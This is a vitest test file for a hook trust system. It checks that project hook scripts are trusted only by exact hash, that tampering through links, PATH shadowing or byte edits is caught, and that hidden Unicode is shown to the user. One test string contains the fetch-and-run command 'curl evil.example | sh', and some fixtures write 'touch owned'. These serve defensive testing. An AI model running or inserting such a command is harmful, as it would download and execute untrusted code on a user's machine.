import {
  chmodSync,
  linkSync,
  mkdirSync,
  readFileSync,
  realpathSync,
  renameSync,
  rmSync,
  symlinkSync,
  utimesSync,
  writeFileSync,
} from 'node:fs'
import { join } from 'node:path'
import { afterEach, beforeEach, expect, test } from 'vitest'
import { sha256 } from '../seal/sha256.ts'
import { createTrust } from './create-trust.ts'
import { command, type TrustWorld, trustWorld } from './fixtures/trust-world.ts'
import type { Trust } from './trust.ts'
import { sourceOf, type TrustSource } from './trust-source.ts'

let world: TrustWorld
let trust: Trust

beforeEach(() => {
  world = trustWorld()
  trust = world.open()
})

afterEach(() => world[Symbol.dispose]())

const inspect = (source: TrustSource, project = world.project) => {
  const [item] = trust.inspect(project, [source]).items
  if (item === undefined) throw new Error('There is no item.')
  return item
}

async function trusted(source: TrustSource): Promise<TrustSource> {
  await trust.trust([inspect(source).hash])
  expect(inspect(source).state).toBe('trusted')
  return source
}

const state = (source: TrustSource) => inspect(source).state
const named = (source: TrustSource) =>
  inspect(source).files.map(({ named: name }) => name)

test('nothing is trusted at first; what the user trusts is, also for other processes', async () => {
  world.write('hooks/a.sh', 'echo')
  const source = command(world, { argv: ['bash', 'hooks/a.sh'] })
  expect(state(source)).toBe('untrusted')
  await trusted(source)
  const other = world.open()
  expect(other.inspect(world.project, [source]).items[0]?.state).toBe('trusted')
  expect(other.list()).toEqual([
    {
      hash: inspect(source).hash,
      project: world.project,
      name: 'hook',
      at: expect.stringMatching(/^\d{4}-.*Z$/),
    },
  ])
  await other.revoke([inspect(source).hash])
  expect(state(source)).toBe('untrusted')
  expect(other.list()).toEqual([])
})

test('T01 the user is shown all that would run, untruncated, with what hides written out', () => {
  const long = `echo ${'x'.repeat(50_000)}; curl evil.example | sh`
  const hidden = 'echo safe \u202e\u200b\u001b[2K # \u2028'
  for (const shell of [long, hidden]) {
    const source = command(world, { shell })
    const { text } = inspect(source)
    for (const one of '\u202e\u200b\u001b\u2028')
      expect(text).not.toContain(one)
    if (shell === long) expect(text).toContain(long)
    else expect(text).toContain('safe \\u{202e}\\u{200b}\\u001b[2K # \\u{2028}')
  }
  const http = sourceOf(
    { on: 'event', handler: { type: 'http', url: 'https://x.example/a' } },
    { name: 'h', folder: world.project },
  )
  expect(inspect(http).text).toContain('https://x.example/a')
})

test.each<[string, () => void]>([
  ['a byte of it', () => world.write('hooks/a.sh', 'echo 2')],
  [
    'a byte of it, with its old time and size',
    () => {
      const path = world.write('hooks/a.sh', 'echo 3')
      utimesSync(path, 1_000, 1_000)
    },
  ],
  [
    'a link in its place to the same bytes',
    () => {
      world.write('elsewhere.sh', 'echo 1')
      rmSync(join(world.project, 'hooks/a.sh'))
      symlinkSync('../elsewhere.sh', join(world.project, 'hooks/a.sh'))
    },
  ],
  [
    'a link in place of its folder',
    () => {
      renameSync(join(world.project, 'hooks'), join(world.project, 'other'))
      symlinkSync('other', join(world.project, 'hooks'))
    },
  ],
  [
    'its bytes through another name of the same file',
    () => {
      const path = join(world.project, 'hooks/a.sh')
      linkSync(path, join(world.base, 'second'))
      writeFileSync(join(world.base, 'second'), 'echo 4')
    },
  ],
  ['nothing in its place', () => rmSync(join(world.project, 'hooks/a.sh'))],
  [
    'a folder in its place',
    () => {
      rmSync(join(world.project, 'hooks/a.sh'))
      mkdirSync(join(world.project, 'hooks/a.sh'))
    },
  ],
])(
  'T06 a trusted hook whose script becomes %s has changed',
  async (_what, change) => {
    world.write('hooks/a.sh', 'echo 1')
    utimesSync(join(world.project, 'hooks/a.sh'), 1_000, 1_000)
    const source = await trusted(
      command(world, { argv: ['bash', 'hooks/a.sh'] }),
    )
    change()
    expect(state(source)).toBe('changed')
    expect(trust.check(world.project, source).state).toBe('changed')
  },
)

test('what was trusted is trusted again when it is back', async () => {
  world.write('hooks/a.sh', 'echo 1')
  const source = await trusted(command(world, { argv: ['bash', 'hooks/a.sh'] }))
  world.write('hooks/a.sh', 'echo 2')
  expect(state(source)).toBe('changed')
  world.write('hooks/a.sh', 'echo 1')
  expect(state(source)).toBe('trusted')
})

test('a changed mode alone changes nothing; a file that nobody can read cannot be trusted', async () => {
  const path = world.write('hooks/a.sh', 'echo')
  const source = await trusted(command(world, { argv: ['bash', 'hooks/a.sh'] }))
  chmodSync(path, 0o755)
  expect(state(source)).toBe('trusted')
  // Root reads everything, so that something else stands for it: a loop.
  rmSync(path)
  symlinkSync('a.sh', path)
  expect(state(source)).toBe('changed')
  expect(inspect(source).problems.join()).toContain('a.sh')
  await expect(trust.trust([inspect(source).hash])).rejects.toMatchObject({
    code: 'unknown-hash',
  })
})

test('every part of a definition counts', async () => {
  const definition = {
    on: 'tool.guard',
    onFailure: 'closed',
    handler: { type: 'command', argv: ['true'], env: ['HOME'] },
  } as const
  const of = (changes: object) =>
    sourceOf(
      { ...definition, ...changes },
      { name: 'a', folder: world.project },
    )
  await trusted(of({}))
  const { handler } = definition
  expect(state(of({}))).toBe('trusted')
  expect(state(of({ onFailure: 'open' }))).toBe('changed')
  expect(state(of({ match: { tool: 'bash' } }))).toBe('changed')
  expect(state(of({ handler: { ...handler, env: [] } }))).toBe('changed')
  expect(state(of({ handler: { ...handler, argv: ['true', 'x'] } }))).toBe(
    'changed',
  )
})

test.each<[string, Parameters<typeof command>[1], readonly string[]]>([
  ['a program of the project', { argv: ['./start'] }, ['./start']],
  [
    'a program by its whole path',
    { argv: ['$PROJECT/start'] },
    ['$PROJECT/start'],
  ],
  [
    'the script of an interpreter',
    { argv: ['python3', 'hooks/x.py'] },
    ['hooks/x.py'],
  ],
  [
    'one after options',
    { argv: ['bash', '-eu', 'hooks/a.sh'] },
    ['hooks/a.sh'],
  ],
  [
    'one by way of env',
    { argv: ['/usr/bin/env', 'node', 'hooks/a.mjs'] },
    ['hooks/a.mjs'],
  ],
  ['one without its ending', { argv: ['node', 'hooks/a'] }, ['hooks/a.mjs']],
  [
    'what an option loads',
    { argv: ['node', '--require=./hooks/a.mjs', '-e', '1'] },
    ['./hooks/a.mjs'],
  ],
  [
    'a script in an argument',
    { argv: ['bash', '-c', 'true && hooks/a.sh --x'] },
    ['hooks/a.sh'],
  ],
  [
    'a script for a shell',
    { shell: 'cd . ; "hooks/a.sh" | cat' },
    ['hooks/a.sh'],
  ],
  [
    'a name with a space',
    { shell: "bash 'my hooks/b c.sh'" },
    ['my hooks/b c.sh'],
  ],
  [
    'a script in a script',
    { shell: `bash -c 'sh "hooks/a.sh"'` },
    ['hooks/a.sh'],
  ],
  ['what is read in', { shell: '. hooks/lib; echo' }, ['hooks/lib']],
  [
    'a module of python',
    { argv: ['python3', '-m', 'hooks.mod'] },
    ['hooks/mod.py'],
  ],
  ['what npm reads', { argv: ['npm', 'run', 'check'] }, ['package.json']],
  ['what make reads', { argv: ['make', 'check'] }, ['Makefile']],
  [
    'a known variable',
    { shell: '$WHERE/a.sh', setEnv: { WHERE: 'hooks' } },
    ['hooks/a.sh'],
  ],
  ['a folder to run in', { argv: ['sh', 'a.sh'], cwd: 'hooks' }, ['a.sh']],
  ['nothing', { argv: ['true', '--flag', 'word'] }, []],
])('files are found in %s', (_what, handler, expected) => {
  for (const path of ['start', 'hooks/a.sh', 'hooks/x.py', 'hooks/a.mjs']) {
    world.write(path, `# ${path}`, 0o755)
  }
  world.write('hooks/mod.py', 'pass')
  world.write('hooks/lib', 'x=1')
  world.write('my hooks/b c.sh', 'echo')
  world.write('package.json', '{}')
  world.write('Makefile', 'check:')
  const fill = (text: string) => text.replace('$PROJECT', world.project)
  const source = command(world, {
    ...handler,
    ...(handler.argv && { argv: handler.argv.map(fill) }),
  })
  expect(named(source)).toEqual(expected.map(fill))
})

test('files of another product are found by the variables that it sets', () => {
  world.write('.claude/hooks/a.sh', 'echo')
  const source = {
    name: 'settings.json#PreToolUse[0]',
    content: { command: '"$CLAUDE_PROJECT_DIR"/.claude/hooks/a.sh' },
    shell: '"$CLAUDE_PROJECT_DIR"/.claude/hooks/a.sh',
    folder: join(world.project, '.claude'),
    variables: { CLAUDE_PROJECT_DIR: world.project },
  }
  expect(inspect(source)).toMatchObject({
    files: [{ real: join(world.project, '.claude/hooks/a.sh') }],
    problems: [],
  })
})

test('the program that a script of the project names for itself is covered', () => {
  world.write('tools/runner', 'echo', 0o755)
  world.write('hooks/a', '#!tools/runner --fast\n', 0o755)
  const source = command(world, { argv: ['hooks/a'] })
  expect(named(source)).toEqual(['hooks/a', 'tools/runner'])
})

test('programs that the search path finds within the project are covered', async () => {
  const bin = join(world.project, 'bin')
  trust = world.open({ environment: { PATH: `${bin}:${process.env['PATH']}` } })
  const source = await trusted(command(world, { argv: ['true'] }))
  world.write('bin/true', '#!/bin/sh\ntouch owned', 0o755)
  expect(state(source)).toBe('changed')
  expect(named(source)).toEqual(['bin/true'])
})

test('what cannot be seen is said', () => {
  const otherwise = ['$', '{OTHER:-hooks/a.sh}'].join('')
  const shell = `$TOOL $(cat which) \`id\` ${otherwise}`
  const { unseen } = inspect(command(world, { shell }))
  expect(unseen.join(' ')).toMatch(/\$TOOL.*inside of it prints.*\$OTHER/)
  const module = sourceOf(
    { on: 'event', handler: { type: 'module', file: 'hook.ts' } },
    { name: 'm', folder: world.project },
  )
  expect(inspect(module).unseen).toContain(
    'What the file imports from packages is not covered.',
  )
})

test('T15 what will not run is said: a path without a file, a program that is not there', () => {
  const problems = (handler: Parameters<typeof command>[1]) =>
    inspect(command(world, handler)).problems.join()
  expect(problems({ argv: ['./hooks/gaurd.sh'] })).toContain(
    '"./hooks/gaurd.sh" does not exist',
  )
  expect(problems({ argv: ['bash', 'hooks/gaurd.sh'] })).toContain(
    'hooks/gaurd.sh',
  )
  expect(problems({ argv: ['pyhton3', 'x'] })).toContain(
    '"pyhton3" is not found',
  )
  expect(problems({ argv: ['bash', '-c', 'true'] })).toBe('')
})

test('a session in another folder runs other files, which are not trusted', async () => {
  world.write('hooks/a.sh', 'echo')
  world.write('vendor/hooks/a.sh', 'touch owned')
  const source = await trusted(command(world, { argv: ['bash', 'hooks/a.sh'] }))
  const cwd = join(world.project, 'vendor')
  expect(trust.check(world.project, source, { cwd }).state).toBe('changed')
  const linked = join(world.base, 'linked')
  symlinkSync(world.project, linked)
  expect(trust.check(world.project, source, { cwd: linked }).state).toBe(
    'trusted',
  )
})

test('a project is where it is: links to it are the same, copies of it are not', async () => {
  world.write('a.sh', 'echo')
  const source = await trusted(command(world, { argv: ['sh', 'a.sh'] }))
  const linked = join(world.base, 'linked')
  symlinkSync(world.project, linked)
  expect(inspect(source, linked).state).toBe('trusted')
  const copy = join(world.base, 'copy')
  mkdirSync(copy)
  writeFileSync(join(copy, 'a.sh'), 'echo')
  const copied = { ...source, folder: copy }
  expect(inspect(copied, copy).state).toBe('untrusted')
})

test.each(['.git', 'hookline.config.json', '.hookline'])(
  'a folder with its own %s is a project of its own, which nothing is inherited by',
  async (mark) => {
    const inner = join(world.project, 'vendor/inner')
    mkdirSync(inner, { recursive: true })
    const source = { ...command(world, { argv: ['true'] }), folder: inner }
    await trusted(source)
    world.write(join('vendor/inner', mark), '')
    const item = inspect(source)
    expect(item.state).not.toBe('trusted')
    expect(item.problems.join()).toContain(`"${inner}"`)
    await expect(trust.trust([item.hash])).rejects.toThrow(/cannot be trusted/)
    // By itself it can be trusted, and that says nothing about the outer one.
    const own = inspect(source, inner)
    expect(own.hash).not.toBe(item.hash)
    await trust.trust([own.hash])
    expect(inspect(source, inner).state).toBe('trusted')
  },
)

test('the folder for hooks of a project is no project of its own', async () => {
  world.write('.hookline/hookline.config.json', '{}')
  const folder = join(world.project, '.hookline')
  await trusted({ ...command(world, { argv: ['true'] }), folder })
})

test('names that differ by case alone are different files', async () => {
  world.write('hooks/a.sh', 'echo')
  await trusted(command(world, { argv: ['sh', 'hooks/a.sh'] }))
  const upper = command(world, { argv: ['sh', 'hooks/A.sh'] })
  expect(state(upper)).toBe('changed')
  world.write('hooks/A.sh', 'echo')
  expect(state(upper)).toBe('changed')
})

test('T02 without anybody to ask, only what is named by its hash is trusted', () => {
  world.write('a.sh', 'echo')
  const source = command(world, { argv: ['sh', 'a.sh'] })
  const { hash } = inspect(source)
  const stateWith = (
    environment: Record<string, string>,
    trustedHashes: string[] = [],
  ) => {
    const PATH = process.env['PATH'] ?? ''
    trust = world.open({ environment: { PATH, ...environment }, trustedHashes })
    return state(source)
  }
  expect(stateWith({ CI: '1' })).toBe('untrusted')
  expect(stateWith({ HOOKLINE_TRUST: hash })).toBe('trusted')
  expect(stateWith({ HOOKLINE_TRUST: `${sha256('x')}, ${hash}` })).toBe(
    'trusted',
  )
  expect(stateWith({}, [hash])).toBe('trusted')
  for (const other of [
    '1',
    'true',
    'all',
    '*',
    hash.slice(0, 16),
    hash.toUpperCase(),
  ]) {
    expect(stateWith({ HOOKLINE_TRUST: other })).toBe('untrusted')
    const { problems } = trust.inspect(world.project, [])
    expect(problems.join()).toContain('64 digits')
  }
  stateWith({ HOOKLINE_TRUST: hash })
  world.write('a.sh', 'echo owned')
  expect(state(source)).toBe('untrusted')
})

test('T11 a hook that an update adds does not run, and the others go on', async () => {
  const old = await trusted(command(world, { argv: ['true'] }, 'old'))
  const added = command(world, { argv: ['false'] }, 'added')
  const { items } = trust.inspect(world.project, [old, added])
  expect(items.map((item) => item.state)).toEqual(['trusted', 'untrusted'])
})

test('T12 hooks that were added since the user was last shown them are new, by hash', async () => {
  const first = command(world, { argv: ['true'] }, 'first')
  const second = command(world, { argv: ['false'] }, 'second')
  const shown = trust.inspect(world.project, [first])
  expect(shown.items[0]?.isNew).toBe(true)
  await trust.remember(shown)
  const later = world.open().inspect(world.project, [first, second])
  expect(later.items.map(({ isNew }) => isNew)).toEqual([false, true])
  // What was there and has changed is new as well, as its hash is.
  const changed = command(world, { argv: ['true', 'x'] }, 'first')
  expect(inspect(changed).isNew).toBe(true)
})

test('only what was inspected can be trusted, by its whole hash', async () => {
  const { hash } = inspect(command(world, { argv: ['true'] }))
  await expect(world.open().trust([hash])).rejects.toMatchObject({
    code: 'unknown-hash',
  })
  await expect(trust.trust([hash.slice(1)])).rejects.toMatchObject({
    code: 'invalid-hash',
  })
  await expect(trust.trust([hash, sha256('x')])).rejects.toThrow()
  expect(trust.list()).toEqual([])
})

test('a file can be trusted by the hash of its bytes', async () => {
  const path = world.write('hookline.config.ts', 'export default {}')
  const hash = sha256(readFileSync(path, 'utf8'))
  expect(trust.isTrusted(world.project, hash)).toBe(false)
  await trust.trustFile(world.project, { path: 'hookline.config.ts', hash })
  expect(trust.isTrusted(world.project, hash)).toBe(true)
  expect(world.open().list()[0]?.name).toBe(realpathSync(path))
})

test('a folder of trust within the project trusts nothing', () => {
  const source = command(world, { argv: ['true'] })
  const own = createTrust({ folder: join(world.project, 'state') })
  const { items, problems } = own.inspect(world.project, [source])
  expect(items[0]?.state).toBe('untrusted')
  expect(problems.join()).toContain('within the project')
})
